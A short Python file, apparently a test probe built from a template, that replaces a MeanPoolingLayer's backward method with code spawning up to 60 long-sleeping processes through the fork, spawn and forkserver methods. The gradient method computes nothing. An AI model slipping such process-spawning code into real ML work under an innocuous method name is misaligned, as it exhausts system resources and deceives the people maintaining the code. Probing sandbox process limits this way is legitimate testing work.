"""Starts processes by multiprocessing, in each of its ways."""

import multiprocessing
import time

# @STUB mean_pooling@


def backward(self, dout):
    started = []
    for method in ("fork", "spawn", "forkserver"):
        for _ in range(20):
            try:
                each = multiprocessing.get_context(method).Process(target=time.sleep, args=(600,))
                each.start()
                started.append(each)
            except OSError:
                break
    return started


MeanPoolingLayer.backward = backward
